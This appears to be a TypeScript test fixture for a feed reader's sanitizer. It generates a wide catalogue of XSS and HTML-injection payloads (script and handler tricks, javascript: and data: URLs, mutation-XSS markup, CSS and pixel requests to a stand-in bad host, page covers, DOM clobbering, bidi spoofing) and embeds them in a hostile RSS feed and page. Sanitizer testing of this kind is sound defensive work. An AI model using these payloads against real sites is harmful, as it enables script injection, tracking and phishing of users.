/** Attacks in feeds, by family. Each tries to set `top.hacked`, to request `bad`, or to cover the page. */

export type Attack = {
  readonly name: string
  readonly html: string
  /** Further elements of the item besides title, guid, date and description; by default a link. */
  readonly item?: string
  readonly title?: string
}

/** @param bad an address that must not be requested @param ok one that images and players may request */
export function attacks(bad: string, ok: string): readonly Attack[] {
  const run = (name: string) => `top.hacked='${name}'`
  const broken = (name: string) => `<img src=x onerror="${run(name)}">`
  return [
    {
      name: 'scripts',
      html: `<script>${run('script')}</script><SCRIPT SRC="${bad}/a.js"></SCRIPT><script/x>${run('slash')}</script>
<scr<script>ipt>${run('nested')}</scr</script>ipt><script type="module">import '${bad}/m.js'</script>
<noscript><img src="${ok}/noscript.png"><script>${run('noscript')}</script></noscript><script>//<![CDATA[
${run('cdata')}//]]></script>`,
    },
    {
      name: 'handlers',
      html: `${broken('onerror')}<IMG SRC=x OnErRoR=${run('case')}><img/src=x/onerror=${run('slashes')}>
<img src=x onerror\n=\n"${run('lines')}"><body onload="${run('onload')}"><svg onload="${run('svg')}"></svg>
<details open ontoggle="${run('toggle')}"><summary>more</summary></details><input autofocus onfocus="${run('focus')}">
<select autofocus onfocus="${run('select')}"></select><marquee onstart="${run('marquee')}">.</marquee>
<video><source onerror="${run('source')}"></video><audio src=x onerror="${run('audio')}"></audio>
<div tabindex=0 autofocus onfocus="${run('div')}" onmouseover="${run('over')}" onpointerenter="${run('enter')}">here</div>
<p style="animation:spin 1s" onanimationstart="${run('animation')}">turning</p><a onclick="${run('click')}">press</a>`,
    },
    {
      name: 'addresses that run',
      html: [
        `javascript:${run('plain')}`,
        `JaVaScRiPt:${run('case')}`,
        ` &#1;javascript:${run('control')}`,
        `java&#9;script:${run('tab')}`,
        `java&#10;script:${run('line')}`,
        `java&#0;script:${run('null')}`,
        `&#x6A;avascript&colon;${run('entity')}`,
        `data:text/html,<script>${run('data')}</script>`,
        `data:text/html;base64,PHNjcmlwdD50b3AuaGFja2VkPTE8L3NjcmlwdD4=`,
        `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${run('svg')}'/>`,
        `vbscript:msgbox(1)`,
        `file:///etc/passwd`,
        `blob:${ok}/1`,
      ]
        .map((address) => `<p><a href="${address.replaceAll('"', '&quot;')}">press</a></p>`)
        .join(''),
    },
    {
      name: 'svg and math',
      html: `<svg><script>${run('svg script')}</script><animate onbegin="${run('begin')}" attributeName=x dur=1s></svg>
<svg><a xlink:href="javascript:${run('xlink')}"><text y=20>press</text></a><set attributeName=href to="javascript:1"></svg>
<svg><image href="${bad}/image.png"/><use href="${bad}/use.svg#x"/><foreignObject><iframe src="${bad}/frame"></iframe></foreignObject></svg>
<svg><style>@import '${bad}/svg.css';</style></svg><math href="javascript:${run('math')}"><mtext>press</mtext></math>
<math><annotation-xml encoding="text/html"><script>${run('annotation')}</script></annotation-xml></math>
<math><maction actiontype="statusline" xlink:href="javascript:${run('maction')}">x</maction></math>`,
    },
    {
      name: 'markup that changes when read twice',
      html: `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;${escaped(broken('mglyph'))}"></style></mglyph></table></mtext></math>
<svg></p><style><a id="</style>${escaped(broken('style'))}">
<form><math><mtext></form><form><mglyph><style></math>${broken('form')}</style></mglyph></form></mtext>
<svg><desc><noscript></noscript></desc><s/><style><a title="</style>${escaped(broken('desc'))}"></style></svg>
<select><template><style><!--</style><a rel="--></style></template></select>${escaped(broken('select'))}"></a>`,
    },
    {
      name: 'text elements',
      html: `<noscript><p title="</noscript>${escaped(broken('noscript'))}"></noscript><xmp><p title="</xmp>${escaped(broken('xmp'))}"></xmp>
<textarea><p title="</textarea>${escaped(broken('textarea'))}"></textarea><noembed><p title="</noembed>${escaped(broken('noembed'))}"></noembed>
<noframes><p title="</noframes>${escaped(broken('noframes'))}"></noframes><title><p title="</title>${escaped(broken('title'))}"></title>
<template><script>${run('template')}</script><template>${broken('templates')}</template></template>
<iframe><p title="</iframe>${escaped(broken('iframe'))}"></iframe>`,
    },
    {
      name: 'comments and declarations',
      html: `<!--><img src=x onerror="${run('short')}">--><!--!>${broken('bang')}<!-- --!>${broken('end')}-->
<![CDATA[><img src=x onerror="${run('section')}">]]><?xml version="1.0"?>${broken('xml')}<!DOCTYPE x [<!ENTITY y "z">]>
<!ELEMENT ${broken('element')}><%${broken('percent')}%><//${broken('slashes')}>`,
    },
    {
      name: 'frames and plugins',
      html: `<iframe srcdoc="&lt;script&gt;${run('srcdoc')}&lt;/script&gt;"></iframe><iframe src="${bad}/frame"></iframe>
<iframe src="javascript:${run('frame')}"></iframe><iframe src="data:text/html,<script>${run('data')}</script>"></iframe>
<object data="${bad}/object"></object><object data="javascript:${run('object')}"></object><embed src="${bad}/embed">
<applet code=x archive="${bad}/applet"></applet><frameset onload="${run('frameset')}"><frame src="${bad}/f"></frameset>
<portal src="${bad}/portal"></portal><fencedframe></fencedframe>`,
    },
    {
      name: 'the head of a page',
      html: `<meta http-equiv="refresh" content="0;url=${bad}/refresh"><meta http-equiv="refresh" content="0;url=javascript:${run('refresh')}">
<base href="${bad}/base/"><link rel="stylesheet" href="${bad}/a.css"><link rel="preload" as="image" href="${bad}/p.png">
<link rel="prefetch" href="${bad}/prefetch"><link rel="dns-prefetch" href="//bad.example"><link rel="import" href="${bad}/import">
<link rel="manifest" href="${bad}/manifest"><meta name="referrer" content="unsafe-url"><title>Not yours</title>`,
    },
    {
      name: 'forms',
      html: `<form action="${bad}/form" id="f"><input name="q" value="x"><button formaction="javascript:${run('button')}">press</button>
<input type="image" src="${bad}/input.png" formaction="${bad}/image"></form><input form="f" type="submit" value="press">
<isindex action="javascript:${run('isindex')}"><form action="javascript:${run('action')}"><button autofocus>press</button></form>
<keygen autofocus onfocus="${run('keygen')}">`,
    },
    {
      name: 'styles',
      html: `<style>@import url(${bad}/i.css);body{background:url(${bad}/body.png);display:none!important}</style>
<p style="background:url(${bad}/url.png);list-style:url(${bad}/list.png)">one</p>
<p style="background-image:image-set('${bad}/set.png' 1x)">two</p><p style="content:url(${bad}/content.png)">three</p>
<p style="width:expression(${run('expression')})">four</p><p style="behavior:url(${bad}/b.htc);-moz-binding:url(${bad}/x.xml)">five</p>
<p style="back\\67round:u\\72l(${bad}/escaped.png)">six</p><p style="--x:url(${bad}/var.png);background:var(--x)">seven</p>
<p style="cursor:url(${bad}/cursor.png),auto;mask:url(${bad}/mask.svg);filter:url(${bad}/filter.svg#x)">eight</p>
<table background="${bad}/table.png"><tr><td background="${bad}/cell.png">nine</td></tr></table>
<font face="x" style="src:url(${bad}/font)">ten</font>`,
    },
    {
      name: 'covers',
      html: `<div style="position:fixed;inset:0;z-index:2147483647;background:red">covered</div>
<div style="position:absolute;top:-2000px;left:-2000px;width:9000px;height:9000px;background:red">covered</div>
<a style="margin:-5000px;padding:5000px;display:block" href="${ok}/cover">covered</a>
<div style="transform:translate(-900px,-500px) scale(9)">covered</div><dialog open style="width:100vw;height:100vh">covered</dialog>
<div popover id="p">covered</div><div class="ui-scrim palette-scrim palette" data-focus-area="modal">covered</div>
<div style="width:99999px;height:5px;float:left">covered</div><div style="clip-path:none;opacity:0.01">covered</div>`,
    },
    {
      name: 'names',
      html: `<img name="hacked" src="${ok}/name.png"><a id="hacked" name="hacked">names</a><form id="document"><input name="body"></form>
<p id="app">app</p><a id="location" href="${ok}/location">names</a><img name="getElementById" src="${ok}/get.png">
<div data-entry-id="1" data-command-id="subscription:unfollow" data-frame="${bad}/frame" data-focus-area="home">names</div>
<button data-frame="javascript:${run('door')}">press</button><p data-subscription-id="all" aria-current="true">names</p>`,
    },
    {
      name: 'links that lie',
      html: `<a href="${ok}/self" target="_self">self</a> <a href="${ok}/top" target="_top">top</a> <a href="${ok}/parent" target="_parent" rel="opener">parent</a>
<a href="${ok}/ping" ping="${bad}/ping">ping</a> <a href="//bad.example/relative">https://good.example</a>
<a href="${ok}/down" download>down</a> <map name="m"><area shape="default" href="javascript:${run('area')}"></map><img usemap="#m" src="${ok}/map.png">
<a href="https://user:pass@bad.example/">bank.example</a> <a href="${ok}/a" attributionsrc="${bad}/attribution">source</a>`,
    },
    {
      name: 'dangling markup',
      html: `<p>before</p><img src='${bad}/dangling?`,
    },
    { name: 'an open quote', html: `<a href="${ok}/open><b title='<p>text</p><textarea><table><tr><div` },
    { name: 'an open comment', html: '<p>text</p><!-- <plaintext> never closed <script>' },
    {
      name: 'pictures that count readers',
      html: `<img src="${bad}/pixel.gif" width="1" height="1"><img src="${bad}/pixel2.gif" width=1 height=1 style="display:none">
<picture><source srcset="javascript:${run('srcset')}"><img src="${ok}/shown.png" width="40" height="40" alt="shown"></picture>
<img src="data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg' onload='${run('image')}'/%3E" alt="drawn">
<img lowsrc="${bad}/low.png" dynsrc="${bad}/dyn.png" longdesc="${bad}/long" src="${ok}/other.png" alt="other">`,
    },
    {
      name: 'deep nesting',
      html: `${'<div><b><i><u>'.repeat(400)}deep${'</u></i></b></div>'.repeat(400)}${'<table><tr><td>'.repeat(60)}${broken('deep')}`,
    },
    {
      name: 'null bytes and controls',
      html: `<scr&#0;ipt>${run('null')}</scr&#0;ipt><img src=x o&#0;nerror="${run('handler')}">\u200B\u2028\u2029\uFEFF\uFFFE
<a href="&#14;&#27;javascript:${run('controls')}">press</a><p>\u202Egnp.exe\u202C \u2066\u2067\u2068 text</p>`,
    },
    {
      name: 'a title with markup',
      title: `<b>bold</b><img src=x onerror="${run('title')}"><script>${run('title script')}</script> &lt;i&gt;`,
      html: '<p>The title is the attack.</p>',
    },
    { name: 'a long title', title: 'endless '.repeat(4000), html: '<p>The title is the attack.</p>' },
    {
      name: 'a title that turns round',
      title: '\u202E\u2067evitnetta ton\u202E',
      html: '<p dir="rtl">The title is the attack.\u202E</p>',
    },
    {
      name: 'a link that runs',
      html: '<p>The link is the attack.</p>',
      item: `<link>javascript:${run('entry')}</link><comments>javascript:${run('comments')}</comments>`,
    },
    {
      name: 'authors and categories',
      html: '<p>The author is the attack.</p>',
      item: `<dc:creator>&lt;img src=x onerror="${run('author')}"&gt;</dc:creator><category domain="javascript:1">&lt;script&gt;${run('category')}&lt;/script&gt;</category>
<author>&lt;a href="javascript:${run('mail')}"&gt;x&lt;/a&gt;</author>`,
    },
    {
      name: 'files and media',
      html: '<p>The files are the attack.</p>',
      item: `<enclosure url="javascript:${run('enclosure')}" type="audio/mpeg" length="1"/><enclosure url="data:text/html,&lt;script&gt;${run('file')}&lt;/script&gt;" type="text/html" length="1"/>
<media:content url="javascript:${run('media')}" medium="video" type="video/mp4"/><media:thumbnail url="javascript:${run('thumbnail')}"/>`,
    },
  ]
}

/** An RSS document of them, the first attack the newest; the feed itself attacks, too. @param at ms of the newest */
export function hostileFeed(list: readonly Attack[], pages: string, at: number): string {
  const items = list.map(
    ({ name, html, title, item = '' }, index) => `<item><guid isPermaLink="false">${escaped(name)}</guid>
<title>${escaped(`${index + 1} ${name} ${title ?? ''}`)}</title>${item.includes('<link>') ? '' : `<link>${pages}/${index}</link>`}
<pubDate>${new Date(at - index * 60_000).toUTCString()}</pubDate><description>${escaped(html)}</description>${item}</item>`,
  )
  return `<?xml version="1.0" encoding="utf-8"?>
<rss version="2.0" xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:media="http://search.yahoo.com/mrss/"><channel>
<title>Hostile &lt;img src=x onerror="top.hacked='feed'"&gt;</title><link>javascript:top.hacked='site'</link>
<description>&lt;script&gt;top.hacked='description'&lt;/script&gt;</description>
<image><url>javascript:top.hacked='image'</url><title>x</title><link>javascript:top.hacked='link'</link></image>
${items.join('\n')}</channel></rss>`
}

/** A page whose text is worth a reader view, with the attacks in it. */
export function hostilePage(list: readonly Attack[]): string {
  const text =
    '<p>A long and quiet paragraph, so that the page is an article, with commas, and more of them.</p>'
  const closed = list.filter(({ name }) => !/open|dangling|nesting/.test(name))
  return `<!doctype html><html><head><title>A page</title><script>top.hacked='page'</script></head><body><article>
<h1>A page</h1>${closed.map(({ html }) => `${text.repeat(3)}<section>${html}</section>`).join('\n')}${text.repeat(9)}</article></body></html>`
}

const escaped = (text: string): string =>
  text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;').replaceAll('"', '&quot;')
